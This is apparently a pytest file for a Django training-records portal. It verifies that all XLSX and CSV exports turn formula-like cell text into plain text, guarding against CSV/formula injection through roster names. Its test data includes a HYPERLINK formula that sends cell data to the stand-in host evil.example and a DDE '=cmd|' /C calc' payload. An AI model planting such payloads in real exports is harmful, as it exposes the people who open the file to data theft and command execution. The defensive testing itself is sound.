"""Every spreadsheet the portal writes goes through the one writer (hefei_cpe/xlsx.py), which
makes a text that a spreadsheet could run as a formula plain text (issue 12, defect 2: names
such as =HYPERLINK(...) or =cmd|' /C calc'!A0, planted by a base through a roster, were written
into the activation-code export as live formulas)."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
import tablib
from django.conf import settings
from django.contrib import admin
from django.urls import reverse
from openpyxl import load_workbook

from apps.accounts.models import Role
from apps.bases.models import Organiser
from apps.filings.models import RosterRow
from apps.filings.resources import RosterRowExportResource
from apps.filings.services import roster_import
from apps.people.models import Person
from hefei_cpe.xlsx import (
    SafeCSV,
    SafeXLSX,
    XlsxWriter,
    dataset_xlsx,
    harmless,
    is_formula_like,
    xlsx_stream,
)
from tests.conftest import client_for
from tests.filings.support import TODAY, csv_bytes, make_plan, row

ROOT = Path(__file__).resolve().parent.parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",  # full-width equals sign
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_is_made_text(value):
    assert is_formula_like(value)
    assert harmless(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["张三", "阿依古丽·买买提", "", "3-4 班", "a=b", 3, -5, 2.5, None]
)
def test_other_values_are_written_as_they_are(value):
    assert harmless(value) == value


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]


def _assert_harmless(content: bytes, planted: list[str]) -> None:
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in planted:
        # An XML reader may give a carriage return back as a line feed.
        assert {"'" + value, "'" + value.replace("\r", "\n")} & texts, value
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith("'"):
            assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("write_only", [False, True], ids=["in-memory", "streamed"])
def test_the_writer_makes_every_formula_text(write_only):
    writer = XlsxWriter(title="t", widths=(20, 20), write_only=write_only)
    writer.heading(["姓名", "备注"])
    writer.rows([[value, 1] for value in HOSTILE])
    _assert_harmless(writer.getvalue(), HOSTILE)


def test_the_streaming_path_makes_every_formula_text():
    out = xlsx_stream(
        title="t", headings=["姓名", "备注"], rows=([value, 1] for value in HOSTILE), caption="c"
    )
    _assert_harmless(out.read(), HOSTILE)
    _assert_harmless(dataset_xlsx(["姓名"], [[value] for value in HOSTILE]), HOSTILE)


def test_the_streaming_path_writes_plain_values_and_drops_what_xml_cannot_carry():
    out = xlsx_stream(
        title="t/[x]",
        headings=["a", "b", "c", "d", "e"],
        rows=[
            ["x\x01y", Decimal("17.5"), True, None, dt.date(2025, 3, 1)],
            [" space ", 3, False, "+1", "3-4 班"],
        ],
        widths=(10, 10),
    )
    sheet = load_workbook(out).active
    assert sheet.title == "t  x "
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [
        ("xy", 17.5, "是", None, "2025-03-01"),
        (" space ", 3, "否", "'+1", "3-4 班"),
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b and not sheet["A2"].font.b


@pytest.fixture
def planted(personas):
    """Two trainees whose names a base typed as formulas into a roster."""
    staff = personas[Role.ORGANISER_STAFF]
    plan = make_plan(staff=staff)
    from tests.factories import new_id_number

    names = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","点我")']
    data = csv_bytes([row(i, name, new_id_number(), hours=8) for i, name in enumerate(names, 1)])
    check, result = roster_import(plan=plan, user=staff, data=data, filename="a.csv", today=TODAY)
    assert result is not None, check.problems
    people = list(Person.objects.filter(name__startswith="="))
    assert len(people) == 2
    return plan, people


def test_the_activation_code_export(personas, planted):
    _plan, people = planted
    response = client_for(personas[Role.CITY_OFFICER]).post(
        reverse("people:issue_codes"), {"person": [p.pk for p in people]}
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    _assert_harmless(response.content, [p.name for p in people])


def test_the_roster_export(personas, planted):
    plan, people = planted
    response = client_for(personas[Role.ORGANISER_STAFF]).get(
        reverse("filings:roster_export", args=[plan.pk])
    )
    _assert_harmless(response.content, [p.name for p in people])


def _download(response) -> bytes:
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_the_people_with_hours_export(personas, planted):
    """专业技术人员学时达标情况 (/ledger/people/?format=xlsx), written by the streaming path."""
    _plan, people = planted
    response = client_for(personas[Role.CITY_OFFICER]).get(
        reverse("credits:people_hours"), {"format": "xlsx", "year": TODAY.year}
    )
    _assert_harmless(_download(response), [p.name for p in people])


def test_the_people_with_hours_export_built_as_a_job(
    personas, planted, monkeypatch, django_capture_on_commit_callbacks
):
    """A large export is written by a background job and downloaded from 我的任务."""
    from apps.credits import views
    from apps.jobs.models import Job

    monkeypatch.setattr(views, "EXPORT_INLINE_LIMIT", 1)
    client = client_for(personas[Role.CITY_OFFICER])
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("credits:people_hours"), {"format": "xlsx", "year": TODAY.year})
    job = Job.objects.get(kind="credits.people_hours_export")
    response = client.get(reverse("jobs:download", args=[job.pk]))
    _assert_harmless(_download(response), [p.name for p in planted[1]])


def test_the_claims_queue_export(personas, planted):
    from tests.credits.test_views import claim_of

    _plan, people = planted
    for person in people:
        claim_of(person)
    response = client_for(personas[Role.CITY_OFFICER]).get(
        reverse("credits:claim_queue"), {"format": "xlsx"}
    )
    _assert_harmless(_download(response), [p.name for p in people])


def test_the_admin_exports(planted):
    """django-import-export writes the admin's exports through the same writer."""
    assert [SafeXLSX, SafeCSV] == settings.EXPORT_FORMATS
    for model in (RosterRow, Organiser):
        formats = admin.site._registry[model].get_export_formats()
        assert {f for f in formats} <= {SafeXLSX, SafeCSV}
    _plan, people = planted
    dataset = RosterRowExportResource().export(RosterRow.objects.all())
    _assert_harmless(SafeXLSX().export_data(dataset), [p.name for p in people])
    text = SafeCSV().export_data(dataset)
    for person in people:
        assert "'" + person.name in text or "'" + person.name.replace('"', '""') in text


def test_the_admin_export_view(city_client, planted):
    url = reverse("admin:filings_rosterrow_export")
    page = city_client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    xlsx = next(value for value, title in form.fields["format"].choices if title == "xlsx")
    data = {"format": xlsx, "resource": "0"}
    data.update(
        {name: "on" for name, field in form.fields.items() if hasattr(field, "resource_name")}
    )
    response = city_client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    _assert_harmless(response.content, [p.name for p in planted[1]])


def test_the_import_templates_go_through_the_writer(officer_client, city_client):
    people = officer_client.get(reverse("people:import_template"))
    sheet = load_workbook(io.BytesIO(people.content)).active
    assert sheet["A1"].value == "姓名" and sheet["B2"].number_format == "@"
    results = city_client.get(reverse("publiccourse:import_template"))
    assert load_workbook(io.BytesIO(results.content)).active["A1"].value == "身份证号码"


def test_no_other_code_writes_a_workbook():
    """A new export must use hefei_cpe.xlsx; demo loaders only build sheets to import."""
    writes = re.compile(r"\bWorkbook\(|\.save\(buffer\)|export\(\s*[\"']xlsx|openpyxl\.Workbook")
    offenders = []
    for path in (ROOT / "apps").rglob("*.py"):
        if path.name == "demo.py" or "/demo/" in str(path) or "/tests/" in str(path):
            continue
        if writes.search(path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_csv_of_the_writer_neutralises_too():
    dataset = tablib.Dataset(headers=["姓名"])
    dataset.append(["=1+1"])
    assert "'=1+1" in SafeCSV().export_data(dataset)
